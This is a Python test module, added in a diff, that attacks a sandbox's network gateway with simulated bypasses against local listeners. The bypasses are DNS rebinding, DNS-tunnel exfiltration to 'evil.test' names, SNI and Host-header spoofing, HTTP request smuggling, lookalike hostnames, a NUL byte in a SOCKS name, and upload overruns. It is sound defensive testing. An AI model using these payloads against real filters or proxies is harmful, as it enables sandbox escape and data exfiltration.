@@ -1,0 +1,267 @@
+"""G: the network, with one host allowed: only that host is reached, by whatever name, header or hello.
+
+The control is a check of the gateway's, which the arm "off" takes out of this process while it lasts. Every target is a
+listener of ours on this machine; names are looked up in a table of the case's own.
+"""
+
+from __future__ import annotations
+
+import contextlib
+
+from ringfence import Network, Policy, Rule
+from ringfence.attacks.arena import LIMITS
+from ringfence.attacks.case import DOS, ESCAPE, LEAK, OURS, Seen, attack, cases
+from ringfence.network import dialling, proxy, registration, requests, resolving, rules, serving, socks
+from ringfence.network.gateway import service
+from ringfence.network.targets import Target
+from ringfence.policy.hosts import HostPattern
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from ringfence.attacks.arena import Arm
+    from ringfence.attacks.witnesses import Listener
+
+_LOOPBACK = "127.0.0.1"
+
+_GUEST = """
+import socket, ssl
+def send(address, *parts, wait=True):
+    with socket.create_connection(address, timeout=3) as sock:
+        for part in parts:
+            sock.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
+            if wait: sock.settimeout(1); got = sock.recv(4096)
+        return got if wait else None
+def hello(name):
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    context = ssl.create_default_context()
+    try: context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
+    except ssl.SSLWantReadError: pass
+    return outgoing.read()
+proxy = ("127.0.0.1", 3128)
+"""
+
+
+@contextlib.contextmanager
+def _replaced(owner: object, name: str, value: object) -> Iterator[None]:
+    before = getattr(owner, name)
+    setattr(owner, name, value)
+    try:
+        yield
+    finally:
+        setattr(owner, name, before)
+
+
+def _careless(arm: Arm, owner: object, name: str, value: object) -> None:
+    """Take a check out of the gateway, in the arm without it, until the arm ends."""
+    if arm.off:
+        arm.enter(_replaced(owner, name, value))
+
+
+def _nothing(*_: object, **__: object) -> None:
+    """A check that never refuses."""
+
+
+def _internet(arm: Arm, names: dict[str, str]) -> list[str]:
+    """Names that the gateway's resolver finds while the arm lasts. Returns the list of what it was asked."""
+    asked: list[str] = []
+
+    def lookup(name: str, port: int) -> list[str]:
+        del port
+        asked.append(name)
+        # As libraries in C do, it reads a name up to a NUL.
+        found = names.get(name.partition("\0")[0])
+        if found is None:
+            raise OSError("no such name")
+        return [found]
+
+    arm.enter(_replaced(service().resolver, "lookup", lookup))
+    return asked
+
+
+def _policy(*allow: str, private: bool = True, rules: tuple[Rule, ...] = (), upload: str = "1M") -> Policy:
+    ranges = ["127.0.0.0/8"] if private else []
+    return Policy(limits=LIMITS, network=Network(allow=list(allow), rules=list(rules), private=ranges, upload=upload))
+
+
+def _came(listener: Listener, told: str, *, with_: bytes = b"") -> Seen:
+    came = [data for data in listener.received() if with_ in data]
+    return Seen(bool(came), f"{len(came)} connections; {told}")
+
+
+@attack("G08", "a name that leads to a private address is not dialled", ESCAPE, off=OURS, label="address check")
+def rebinding(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"rebind.test": _LOOPBACK})
+    _careless(arm, dialling, "fault", _nothing)
+    code = _GUEST + "attempt('http', send, ('rebind.test', port), 'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n')"
+    policy = _policy(f"rebind.test:{listener.port}", private=False)
+    told = arm.python(code, policy=policy, port=listener.port)
+    return _came(listener, told.words())
+
+
+_EXFIL = """
+import socket
+for name in ("secret-data.evil.test", "more-data.web.test.evil.test"):
+    attempt(name, socket.getaddrinfo, name, 443)
+"""
+
+
+@attack("G09", "a name that is not permitted is looked up by nobody", LEAK, off=OURS, label="own resolver")
+def dns_tunnel(arm: Arm) -> Seen:
+    asked = _internet(arm, {"evil.test": _LOOPBACK})
+    whole = resolving.lookup
+
+    def forwarding(one: registration.Registration, name: str) -> str | None:
+        with contextlib.suppress(OSError):
+            service().resolver.lookup(name, 443)
+        return whole(one, name)
+
+    _careless(arm, resolving, "lookup", forwarding)
+    told = arm.python(_EXFIL, policy=_policy("web.test"))
+    return Seen(bool(asked), f"{len(asked)} look-ups; {told.words()}")
+
+
+@attack("G10", "a hello for another server does not pass", ESCAPE, off=OURS, label="SNI check")
+def other_server_name(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"web.test": _LOOPBACK})
+    _careless(arm, serving, "_check_name", _nothing)
+    code = _GUEST + (
+        "attempt('direct', send, ('web.test', port), hello('evil.test'))\n"
+        "attempt('connect', send, proxy, 'CONNECT web.test:%d HTTP/1.1\\r\\n\\r\\n' % port, hello('evil.test'))\n"
+        "cut = hello('evil.test')\n"
+        "attempt('split', send, ('web.test', port), cut[:7], cut[7:40], cut[40:], wait=False)\n"
+    )
+    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, told.words(), with_=b"evil.test")
+
+
+@attack("G10-literal", "CONNECT to an address that is not listed leads nowhere", ESCAPE, off=OURS, label="rules")
+def connect_to_address(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _careless(arm, rules.Rules, "decide", _permit_all)
+    code = _GUEST + (
+        "for name in ('127.0.0.1', '127.1', '0x7f.1', '2130706433', '[::ffff:127.0.0.1]'):\n"
+        "    request = 'CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n' % (name, port)\n"
+        "    attempt(name, send, proxy, request, hello(None) if name == '127.0.0.1' else b'x')\n"
+    ).replace("hello(None)", "b'GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'")
+    told = arm.python(code, policy=_policy("web.test"), port=listener.port)
+    return _came(listener, told.words())
+
+
+def _permit_all(_: rules.Rules, name: str, port: int) -> rules.Verdict:
+    return rules.Verdict(None, Target(name, port, None))
+
+
+@attack("G11", "a Host header for another host does not pass", ESCAPE, off=OURS, label="Host check")
+def other_host_header(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"web.test": _LOOPBACK})
+    _careless(arm, requests, "check_authority", _nothing)
+    code = _GUEST + (
+        "attempt('direct', send, ('web.test', port), 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
+        "attempt('proxy', send, proxy, 'GET http://web.test:%d/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' % port)\n"
+    )
+    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, told.words(), with_=b"evil.test")
+
+
+@attack("G12", "a request that parsers read in two ways does not pass", ESCAPE, off=OURS, label="strict heads")
+def smuggling(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"web.test": _LOOPBACK})
+    for owner in (requests, proxy):
+        _careless(arm, owner, "check_raw_head", _nothing)
+    code = _GUEST + (
+        "start = 'POST / HTTP/1.1\\r\\nHost: web.test:%d\\r\\n' % port\n"
+        "for extra in ('A: b\\nC: d\\r\\n', 'A: b\\r\\n folded\\r\\n', 'Content-Length: 4\\r\\n' * 2):\n"
+        "    attempt(extra, send, ('web.test', port), start + extra + '\\r\\nabcd')\n"
+    )
+    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, told.words())
+
+
+@attack(
+    "G13", "a redirect to a host that is not permitted is not followed for the guest", ESCAPE, off=OURS, label="rules"
+)
+def redirect(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"evil.test": _LOOPBACK})
+    _careless(arm, rules.Rules, "decide", _permit_all)
+    code = _GUEST + (
+        "request = 'GET http://evil.test:%d/ HTTP/1.1\\r\\nHost: evil.test:%d\\r\\n\\r\\n' % (port, port)\n"
+        "attempt('redirected', send, proxy, request)"
+    )
+    told = arm.python(code, policy=_policy("web.test"), port=listener.port)
+    return _came(listener, told.words())
+
+
+@attack("G14", "a name that only ends like a permitted one is another name", ESCAPE, off=OURS, label="name grammar")
+def lookalike_names(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"evilweb.test": _LOOPBACK})
+    _careless(arm, HostPattern, "matches", lambda pattern, name: name.endswith(pattern.name))
+    code = _GUEST + (
+        "for name in ('evilweb.test', 'EVILWEB.test.', 'web.test.evil.test', 'x@web.test'):\n"
+        "    request = 'GET / HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (name, port)\n"
+        "    attempt(name, send, (name, port), request)"
+    )
+    told = arm.python(code, policy=_policy(f"web.test:{listener.port}"), port=listener.port)
+    return _came(listener, told.words())
+
+
+@attack("G15", "a NUL in a SOCKS name does not make it another name", ESCAPE, off=OURS, label="name grammar")
+def nul_in_socks(arm: Arm) -> Seen:
+    """The suffix matched, and the resolver read up to the NUL: so one peer was broken."""
+    listener = arm.listen_tcp()
+    _internet(arm, {"evil.test": _LOOPBACK})
+    _careless(arm, socks, "canonical_host", str.lower)
+    code = _GUEST + (
+        "name = b'evil.test\\0.web.test'\n"
+        "request = b'\\5\\1\\0\\3' + bytes([len(name)]) + name + port.to_bytes(2, 'big')\n"
+        "attempt('socks', send, proxy, b'\\5\\1\\0', request, b'hello')\n"
+    )
+    rule = Rule(f"*.web.test:{listener.port}", protocol="tcp")
+    told = arm.python(code, policy=_policy(rules=(rule,)), port=listener.port)
+    return _came(listener, told.words())
+
+
+@attack("G25", "while the gateway is down nothing passes", ESCAPE, off=OURS, label="listeners of the gateway's own")
+def gateway_down(arm: Arm) -> Seen:
+    """The arm "off" leaves it running: were there another way, it would be open in both."""
+    listener = arm.listen_tcp()
+    _internet(arm, {"web.test": _LOOPBACK})
+    rule = Rule(f"web.test:{listener.port}", protocol="tcp")
+    box = arm.sandbox(_policy(rules=(rule,)))
+    resolved = arm.python("import socket\ntell(at=socket.gethostbyname('web.test'))", box=box).said("at")
+    if not arm.off:
+        arm.enter(_stopped())
+    code = _GUEST + "attempt('tcp', send, (at, port), b'hello', wait=False)"
+    told = arm.python(code, box=box, at=resolved, port=listener.port)
+    return _came(listener, told.words())
+
+
+@contextlib.contextmanager
+def _stopped() -> Iterator[None]:
+    service().stop()
+    try:
+        yield
+    finally:
+        service().start()
+
+
+@attack("G26", "what is sent beyond the budget does not arrive", DOS, off=OURS, label="upload budget")
+def upload_budget(arm: Arm) -> Seen:
+    listener = arm.listen_tcp()
+    _internet(arm, {"web.test": _LOOPBACK})
+    _careless(arm, registration.Registration, "count_up", _nothing)
+    code = _GUEST + "attempt('tcp', send, ('web.test', port), b'x' * 3000, wait=False)"
+    rule = Rule(f"web.test:{listener.port}", protocol="tcp")
+    told = arm.python(code, policy=_policy(rules=(rule,), upload="1K"), port=listener.port)
+    came = sum(len(data) for data in listener.received())
+    return Seen(came > 1024, f"{came} bytes; {told.words()}")
+
+
+CASES = cases(globals())
